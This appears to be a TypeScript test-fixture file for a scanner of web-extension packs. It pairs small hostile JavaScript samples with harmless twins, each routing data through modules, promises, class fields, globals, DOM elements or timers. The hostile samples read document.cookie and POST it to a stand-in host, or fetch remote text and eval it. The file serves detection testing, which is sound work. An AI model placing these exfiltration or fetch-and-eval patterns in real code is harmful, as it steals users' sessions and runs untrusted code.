import { type Attack, script } from './attack-pack.test-support.ts'

const init = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'

/** Scripts in `web` that name each other. */
const scripts = (
  name: string,
  attack: Readonly<Record<string, string>>,
  twin: Readonly<Record<string, string>>,
): Attack => {
  const pack = (files: Readonly<Record<string, string>>) => ({
    '__init__.py': init,
    ...Object.fromEntries(Object.entries(files).map(([path, text]) => [`web/${path}`, text])),
  })
  return { name, files: pack(attack), twin: pack(twin) }
}

const get = 'async function get() { return await (await fetch("https://example.test/a")).text() }\n'
const cookies = 'function read() { return document.cookie }\n'
const send = 'function send(v) { fetch("https://example.test/c", { method: "POST", body: v }) }\n'

/** Values on their way through functions, objects and modules of scripts. */
export const scriptPaths: Attack[] = [
  script(
    'hands the result of one function to another in a third',
    `${get}function run(x) { eval(x) }\nasync function go() { const v = await get(); run(v) }\ngo()`,
    `${get}function show(x) { console.log(x) }\nasync function go() { const v = await get(); show(v) }\ngo()`,
  ),
  script(
    'chains two functions as steps of a promise',
    `${get}function run(x) { eval(x) }\nfunction go() { get().then(run) }\ngo()`,
    `${get}function run(x) { eval(x) }\nfunction go() { get().then(console.log); run("1") }\ngo()`,
  ),
  scripts(
    'divides a path among modules',
    {
      'main.js': 'import { read } from "./read.js"\nimport push from "./all.js"\npush(read())',
      'read.js': `export ${cookies}`,
      'all.js': 'export { push as default } from "./push.js"',
      'push.js': `${send}export const push = (v) => send(v)`,
    },
    {
      'main.js': 'import { read } from "./read.js"\nimport push from "./all.js"\npush(read().length)',
      'read.js': `export ${cookies}`,
      'all.js': 'export { push as default } from "./push.js"',
      'push.js': `${send}export const push = (v) => send(v)`,
    },
  ),
  script(
    'keeps what it sends in a private field with a setter',
    `${send}class A { #v; set v(x) { this.#v = x } get v() { return this.#v } }\nfunction go() { const a = new A(); a.v = document.cookie; send(a.v) }\ngo()`,
    `${send}class A { #v; set v(x) { this.#v = x } get v() { return this.#v } }\nfunction go() { const a = new A(); a.v = document.cookie.length; send(a.v) }\ngo()`,
  ),
  script(
    'leaves what it sends in the window',
    `${send}function keep() { window.packState = document.cookie }\nfunction go() { send(globalThis["packState"]) }\nkeep(); go()`,
    `${send}function keep() { window.packState = document.cookie }\nfunction go() { send(globalThis["packTheme"]) }\nkeep(); go()`,
  ),
  script(
    'leaves what it sends in an object',
    `${send}function go() { const o = { meta: {} }; o.meta.value = document.cookie; send(o.meta.value) }\ngo()`,
    `${send}function go() { const o = { meta: {} }; o.meta.value = document.cookie; send(o.meta.value.length) }\ngo()`,
  ),
  script(
    'leaves what it sends in an element',
    `${send}function go() { const e = document.createElement("div"); e.dataset.state = document.cookie; send(e.getAttribute("data-state")) }\ngo()`,
    `${send}function go() { const e = document.createElement("div"); e.dataset.state = document.cookie; send("shown") }\ngo()`,
  ),
  script(
    'has a callback assign what it sends',
    `${send}function go() { let v; [document.cookie].forEach((one) => { v = one }); send(v) }\ngo()`,
    `${send}function go() { let v; [document.cookie].forEach((one) => { v = one.length }); send(v) }\ngo()`,
  ),
  script(
    'waits before it hands on what it sends',
    `${send}async function go() { send(await new Promise((done) => setTimeout(() => done(document.cookie), 50))) }\ngo()`,
    `${send}async function go() { await new Promise((done) => setTimeout(() => done(document.cookie), 50)); send("done") }\ngo()`,
  ),
]
